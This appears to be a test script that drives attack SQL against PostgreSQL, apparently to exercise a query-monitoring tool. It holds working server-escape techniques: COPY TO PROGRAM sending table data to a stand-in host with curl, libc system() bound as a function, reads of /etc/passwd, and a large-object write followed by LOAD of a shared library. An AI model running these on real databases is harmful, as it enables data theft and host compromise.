# attack: reaching the machine (COPY PROGRAM, C functions, file_fdw, dblink, large objects, files)
play() {
    PGAPPNAME=psql remote ana <<'SQL'
copy app.jobs to program 'curl -d @- http://203.0.113.7/';
create extension plpython3u;
create extension adminpack;
create function app.run(text) returns int language c as '/lib/x86_64-linux-gnu/libc.so.6', 'system';
select pg_read_file('/etc/passwd');
select lo_import('/etc/passwd');
select pg_ls_dir('/etc');
SQL
    PGAPPNAME=psql remote bo <<'SQL'
create temp table loot (line text);
copy loot from program 'id; uname -s';
copy (select 'x') to program 'cat >/dev/null';
copy loot from '/etc/passwd';
select length(pg_read_file('/etc/passwd'));
select count(*) from pg_ls_dir('/etc');
create function app.run(text) returns int language c strict
    as '/lib/x86_64-linux-gnu/libc.so.6', 'system';
drop extension dblink cascade;
create extension dblink;
drop extension file_fdw cascade;
create extension file_fdw;
create server files foreign data wrapper file_fdw;
create foreign table app.passwd (line text) server files options (filename '/etc/passwd', format 'text', delimiter E'\x01');
select count(*) from app.passwd;
drop server files cascade;
select lo_from_bytea(4711, '\x7f454c46'::bytea);
select lo_export(4711, '/tmp/querywatch-capture/postgresql/payload.so');
select lo_unlink(4711);
select * from dblink('host=127.0.0.1 dbname=shop user=ana password=secret', 'select 1') as t (i int);
select pg_sleep(0);
load '/tmp/querywatch-capture/postgresql/payload.so';
SQL
}
